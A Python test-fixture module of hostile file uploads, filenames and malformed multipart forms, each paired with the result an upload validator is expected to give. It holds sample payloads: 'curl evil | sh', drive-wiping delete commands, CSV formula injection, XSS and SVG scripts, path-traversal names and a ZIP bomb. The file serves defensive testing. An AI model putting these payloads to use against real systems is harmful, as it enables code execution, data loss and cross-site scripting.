"""Files, and forms with files, as somebody would send who means no good; and what has to become of each.

``Kept`` names the type and the name under which it is told and downloaded; ``Refused`` the status and, where a field is
at fault, its code.
"""

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

BOUNDARY = b"----mayfly"
MB = 1024 * 1024
MAX_MB = 2
"""The site's own limit."""


@dataclass(frozen=True)
class Kept:
    media_type: str
    name: str


@dataclass(frozen=True)
class Refused:
    status: int
    fault: str | None = None


def part(head: bytes, content: bytes) -> bytes:
    return b"--" + BOUNDARY + b"\r\n" + head + b"\r\n\r\n" + content + b"\r\n"


def end() -> bytes:
    return b"--" + BOUNDARY + b"--\r\n"


def called(name: bytes, content: bytes, *, media_type: bytes = b"image/png", field: bytes = b"file") -> bytes:
    """A whole form with one file."""
    head = (
        b'Content-Disposition: form-data; name="'
        + field
        + b'"; filename="'
        + name
        + b'"\r\nContent-Type: '
        + media_type
    )
    return part(head, content) + end()


def png(*chunks: tuple[bytes, bytes], width: int = 1, height: int = 1) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0))
    pixels = chunk(b"IDAT", zlib.compress(b"\0\0\0\0\0"))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(chunk(*one) for one in chunks) + pixels + chunk(b"IEND", b"")


def zipped(**files: bytes) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return kept.getvalue()


HTML = b"<!DOCTYPE html><script>alert(document.domain)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
GIF = b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\4\1\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"
JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0" + bytes(64) + b"\xff\xd9"
PDF = b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF"
MZ = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0" + bytes(48) + b"This program cannot be run in DOS mode."
ELF = b"\x7fELF\2\1\1\0" + bytes(64)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
PNG = png()
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
WRONG_KIND = Refused(422, "wrong_kind")
BROKEN = Refused(422)

CONTENTS: dict[str, tuple[bytes, Kept | Refused]] = {
    "HTML called PNG": (called(b"photo.png", HTML), WRONG_KIND),
    "HTML behind blanks and a BOM": (called(b"photo.png", b"\xef\xbb\xbf" + b" \r\n" * 999 + HTML), WRONG_KIND),
    "HTML in UTF-16": (called(b"a.txt", HTML.decode().encode("utf-16")), WRONG_KIND),
    "HTML that begins with a comment": (called(b"a.txt", b"<!--" + b"x" * 5000 + b"-->" + HTML), WRONG_KIND),
    "HTML called text by its sender": (called(b"a.txt", HTML, media_type=b"text/plain"), WRONG_KIND),
    "XHTML": (called(b"a.xml", b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'/>"), WRONG_KIND),
    "SVG with a script": (called(b"logo.svg", SVG, media_type=b"image/svg+xml"), WRONG_KIND),
    "SVG called PNG": (called(b"logo.png", SVG), WRONG_KIND),
    "SVG behind an XML head and an entity": (
        called(b"logo.svg", b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "b">]>' + SVG),
        WRONG_KIND,
    ),
    "XML with entities that grow": (
        called(b"a.xml", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "&c;&c;">]>'),
        WRONG_KIND,
    ),
    "MathML": (called(b"a.mml", b"<math><maction actiontype='statusline#http://evil'/></math>"), WRONG_KIND),
    "GIF that is JavaScript": (called(b"a.js", b"GIF89a=1;alert(1)//"), Kept("text/plain", "a.js.txt")),
    "real GIF with JavaScript behind it": (called(b"a.js", GIF + b"*/=alert(1)"), Kept("image/gif", "a.js.gif")),
    "JPEG with HTML in its comment": (
        called(b"a.html", JPEG[:20] + HTML + JPEG[20:]),
        Kept("image/jpeg", "a.html.jpg"),
    ),
    "PNG with HTML in a chunk": (
        called(b"a.html", png((b"tEXt", b"Comment\0" + HTML))),
        Kept("image/png", "a.html.png"),
    ),
    "PNG with a program behind it": (called(b"a.exe", PNG + MZ), Kept("image/png", "a.exe.png")),
    "PNG that is a ZIP too": (called(b"a.zip", PNG + zipped(x=b"y")), Kept("image/png", "a.zip.png")),
    "PNG that says it has 4 milliard pixels": (
        called(b"a.png", png(width=65535, height=65535)),
        Kept("image/png", "a.png"),
    ),
    "PDF that runs JavaScript": (called(b"a.pdf", PDF), Kept("application/pdf", "a.pdf")),
    "PDF that is HTML too": (called(b"a.html", b"%PDF-1.7\n" + HTML), Kept("application/pdf", "a.html.pdf")),
    "HTML that is PDF too": (called(b"a.pdf", HTML + b"\n" + PDF), WRONG_KIND),
    "PostScript": (called(b"a.pdf", b"%!PS-Adobe-3.0\n(x) (w) file"), WRONG_KIND),
    "ZIP that is a Java archive": (
        called(b"a.jar", zipped(Main=b"\xca\xfe\xba\xbe")),
        Kept("application/zip", "a.jar.zip"),
    ),
    "ZIP that unpacks to 64 MB": (called(b"a.zip", zipped(bomb=bytes(64 * MB))), Kept("application/zip", "a.zip")),
    "ZIP with paths that climb": (
        called(b"a.zip", zipped(**{"../../etc/passwd": b"x"})),
        Kept("application/zip", "a.zip"),
    ),
    "gzip that says it is huge": (
        called(b"a.gz", zlib.compress(bytes(MB), wbits=31)),
        Kept("application/gzip", "a.gz"),
    ),
    "Word file with macros": (
        called(
            b"a.docm", zipped(**{"[Content_Types].xml": b"x", "word/document.xml": b"x", "word/vbaProject.bin": b"x"})
        ),
        Kept("application/vnd.openxmlformats-officedocument.wordprocessingml.document", "a.docm.docx"),
    ),
    "installer in an OLE container": (called(b"setup.doc", OLE), WRONG_KIND),
    "Windows program": (called(b"a.exe", MZ, media_type=b"application/x-msdownload"), WRONG_KIND),
    "Windows program called PNG": (called(b"a.png", MZ), WRONG_KIND),
    "Linux program": (called(b"a.png", ELF), WRONG_KIND),
    "macOS program": (called(b"a", struct.pack(">I", 0xCAFEBABE) + bytes(60)), WRONG_KIND),
    "WebAssembly": (called(b"a.wasm", b"\0asm\1\0\0\0"), WRONG_KIND),
    "Windows shortcut": (called(b"a.lnk", b"L\0\0\0\1\x14\2\0" + bytes(60)), WRONG_KIND),
    "Windows help": (called(b"a.chm", b"ITSF\3\0\0\0" + bytes(60)), WRONG_KIND),
    "Flash": (called(b"a.png", b"FWS\x0a" + bytes(60)), WRONG_KIND),
    "shell script": (called(b"a.txt", b"#!/bin/sh\ncurl evil | sh"), WRONG_KIND),
    "batch file": (called(b"run.bat", b"@echo off\r\ndel /s c:\\"), Kept("text/plain", "run.bat.txt")),
    "PowerShell": (called(b"run.ps1", b"Remove-Item -Recurse C:\\"), Kept("text/plain", "run.ps1.txt")),
    "address that Windows would open": (
        called(b"a.url", b"[InternetShortcut]\r\nURL=file://evil/x"),
        Kept("text/plain", "a.url.txt"),
    ),
    "HTML application": (called(b"a.hta", b"<hta:application><script>x</script>"), WRONG_KIND),
    "what scanners test with": (called(b"eicar.com", EICAR), Kept("text/plain", "eicar.com.txt")),
    "zeros": (called(b"a.png", bytes(4096)), WRONG_KIND),
    "empty": (called(b"a.png", b""), Refused(422, "empty")),
    "text with formulas": (called(b"a.csv", b'=cmd|"/c calc"!A0'), Kept("text/plain", "a.csv")),
}

NAMES: dict[str, tuple[bytes, Kept | Refused]] = {
    "path": (called(b"../../../etc/cron.d/x", PNG), Kept("image/png", "x.png")),
    "Windows path": (called(b"..\\..\\Windows\\evil.dll", PNG), Kept("image/png", "evil.dll.png")),
    "encoded path": (called(b"..%2f..%2fx.png", PNG), Kept("image/png", "%2f..%2fx.png")),
    "nothing but dots": (called(b"..", PNG), Kept("image/png", "file.png")),
    "NUL": (called(b"a.png\0.exe", PNG), Kept("image/png", "a.png.exe.png")),
    "line breaks": (called(b"a%0D%0ASet-Cookie: x=1%0D%0A.png", PNG), Kept("image/png", "a Set-Cookie_ x=1.png")),
    "quotes": (called(b"a%22; filename=%22evil.exe", PNG), Kept("image/png", "a_; filename=_evil.exe.png")),
    "escaped quotes": (called(b'a\\"b.png', PNG), Kept("image/png", "a_b.png")),
    "two extensions": (called(b"bill.pdf.exe", PDF), Kept("application/pdf", "bill.pdf.exe.pdf")),
    "extension hidden behind blanks": (
        called(b"bill.pdf" + b" " * 200 + b".exe", PDF),
        Kept("application/pdf", "bill.pdf .exe.pdf"),
    ),
    "writing from right to left": (called("photo\u202egnp.exe".encode(), PNG), Kept("image/png", "photognp.exe.png")),
    "zero widths": (called("a\u200b\ufeff\u2066.png".encode(), PNG), Kept("image/png", "a.png")),
    "bytes that are no UTF-8": (called(b"\xff\xfe.png", PNG), Kept("image/png", "\ufffd\ufffd.png")),
    "lone surrogates": (called(b"\xed\xa0\x80.png", PNG), Kept("image/png", "\ufffd\ufffd\ufffd.png")),
    "a device of Windows": (called(b"CON.png", PNG), Kept("image/png", "_CON.png")),
    "a hidden file": (called(b".htaccess", b"SetHandler x"), Kept("text/plain", "htaccess.txt")),
    "a thousand letters": (called(b"x" * 1000 + b".png", PNG), Kept("image/png", "x" * 116 + ".png")),
    "ten thousand letters": (called(b"x" * 10_000 + b".png", PNG), BROKEN),
    "markup": (called(b"<img src=x onerror=alert(1)>.png", PNG), Kept("image/png", "_img src=x onerror=alert(1)_.png")),
    "a template": (called(b"{{7*7}}${7*7}.png", PNG), Kept("image/png", "{{7_7}}${7_7}.png")),
}

FORMS: dict[str, tuple[bytes, Kept | Refused]] = {
    "one byte too large": (called(b"a.png", PNG + bytes(MAX_MB * MB + 1 - len(PNG))), Refused(413, "too_large")),
    "exactly as large as may be": (called(b"a.png", PNG + bytes(MAX_MB * MB - len(PNG))), Kept("image/png", "a.png")),
    "far too large": (called(b"a.png", PNG + bytes(8 * MB)), Refused(413, "too_large")),
    "two files": (called(b"a.png", PNG)[: -len(end())] + called(b"b.png", PNG), Refused(422, "one_only")),
    "a file and the id of another": (
        part(b'Content-Disposition: form-data; name="file"', b"0" * 32) + called(b"b.png", PNG),
        Refused(422, "one_only"),
    ),
    "another field": (called(b"a.png", PNG, field=b"avatar"), Refused(422, "unknown")),
    "no file": (part(b'Content-Disposition: form-data; name="x"', b"y") + end(), Refused(422, "unknown")),
    "an id and no file": (
        part(b'Content-Disposition: form-data; name="file"', b"0" * 32) + end(),
        Refused(422, "required"),
    ),
    "a field in which none was chosen": (called(b"", b""), Refused(422, "required")),
    "nothing": (b"", BROKEN),
    "an end and nothing else": (end(), Refused(422, "required")),
    "no boundary": (b"just text", BROKEN),
    "cut off within the file": (called(b"a.png", PNG + bytes(200_000))[:-1000], BROKEN),
    "cut off before its end": (called(b"a.png", PNG)[: -len(end())], BROKEN),
    "cut off within a head": (called(b"a.png", PNG)[:40], BROKEN),
    "a part without a name": (part(b"Content-Type: image/png", PNG) + end(), BROKEN),
    "a part that is no form-data": (part(b'Content-Disposition: attachment; filename="a.png"', PNG) + end(), BROKEN),
    "a head without an end": (b"--" + BOUNDARY + b"\r\nX: " + b"y" * 500_000, BROKEN),
    "a thousand heads": (part(b"\r\n".join(b"X-%d: y" % n for n in range(1000)), b"") + end(), BROKEN),
    "a thousand fields": (
        b"".join(part(b'Content-Disposition: form-data; name="f%d"' % n, b"") for n in range(1000)) + end(),
        BROKEN,
    ),
    "a field that is too long": (
        part(b'Content-Disposition: form-data; name="text"', b"x" * (MB + 1)) + called(b"a.png", PNG),
        Refused(422, "too_long"),
    ),
    "nearly a boundary within the file": (
        called(b"a.txt", b"a\r\n--" + BOUNDARY + b"x\r\nb"),
        Kept("text/plain", "a.txt"),
    ),
}

ALL = {
    f"{what}: {case}": given
    for what, cases in (("content", CONTENTS), ("name", NAMES), ("form", FORMS))
    for case, given in cases.items()
}
